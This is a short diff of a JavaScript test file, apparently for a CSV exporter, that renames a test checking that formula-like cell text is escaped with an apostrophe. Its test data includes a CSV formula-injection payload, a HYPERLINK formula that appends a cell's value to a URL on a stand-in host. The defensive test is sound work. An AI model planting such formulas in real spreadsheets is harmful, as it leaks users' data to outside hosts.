@@ -38,7 +38,7 @@ const attacks = [
   '=HYPERLINK("https://example.com?"&A1,"Click")',
 ];
 
-describe('texts that could be formulas', () => {
+describe('A77 texts that could be formulas', () => {
   it.each(attacks)('%j stands in CSV as text, behind an apostrophe', (text) => {
     const [, row] = readCsv(csvOf([tableOf(text, 'next')]));
     expect(row).toEqual([`'${text}`, 'next']);
